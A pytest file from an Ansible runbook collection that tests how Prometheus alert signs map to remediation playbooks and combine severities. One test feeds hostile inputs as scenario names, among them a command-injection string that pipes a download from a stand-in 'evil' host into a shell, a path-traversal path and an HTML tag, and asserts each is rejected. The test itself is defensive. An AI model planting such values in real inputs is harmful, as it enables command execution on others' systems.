"""What signs propose together."""

from __future__ import annotations

from pathlib import Path

import pytest
from ansible_collections.pafar.runbook.plugins.module_utils._triage.prometheus_signs import (
    prometheus_signs,
)
from ansible_collections.pafar.runbook.plugins.module_utils._triage.sign import (
    SCENARIOS,
    Sign,
    scenarios_of,
    severity_of,
)

from .surveys import alert, page_of, series

PLAYBOOKS = Path(__file__).parents[5] / "playbooks"


# They work no scenario: the first survey, the undo, the game day, the quiet day, the incident log, and those that need
# a chosen session, container or plan.
NO_SCENARIO = {
    "announce", "approve", "awx_hand_over", "awx_plan_held", "awx_setup", "container_start_stop",
    "db_session_cancel", "game_day", "incident_ack", "incident_action", "incident_checklist", "incident_close",
    "incident_note", "incident_open", "incident_postmortem", "incident_report", "incident_resolve", "incident_role",
    "incident_severity", "incident_status", "incident_tick", "incident_update", "incident_verify", "incidents",
    "menu", "oncall", "preflight", "triage", "undo",
}  # fmt: skip


def test_what_may_be_proposed_is_every_playbook_of_a_scenario():
    assert set(SCENARIOS) == {path.stem for path in PLAYBOOKS.glob("*.yml")} - NO_SCENARIO


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "../../tmp/x", "disk_space.yml", "triage", "`<img src=x>`"])
def test_nothing_else_is_proposed(name):
    beyond = series("failing", 1, "", severity={"P1": 1}, scenario=name)
    signs = prometheus_signs({"alerts": [alert("P0", scenario=name)], "unread": [], "series": [beyond]})
    assert [sign.severity for sign in signs] == ["P0", "P1"]
    assert scenarios_of(signs) == []
    assert "ansible-playbook" not in page_of(signs)
    assert "No playbook mitigates the most severe sign above" in page_of(signs)


@pytest.mark.parametrize(
    ("severities", "together"),
    [
        ([], "P3"),
        (["P3"], "P3"),
        (["P2", "P0"], "P0"),
        (["unknown"], "unknown"),
        (["unknown", "P3"], "unknown"),
        (["unknown", "P2"], "P2"),
    ],
)
def test_an_unknown_severity_is_no_value_in_the_middle(severities, together):
    assert severity_of([Sign(severity, "x", "") for severity in severities]) == together


def test_a_sign_of_unknown_severity_adds_nothing_to_its_playbook():
    unknown, minor = (Sign(severity, severity, "", "disk_space") for severity in ("unknown", "P2"))
    assert [scenarios_of(signs)[0]["weight"] for signs in ([unknown], [minor, unknown])] == [1.0, 1.5]
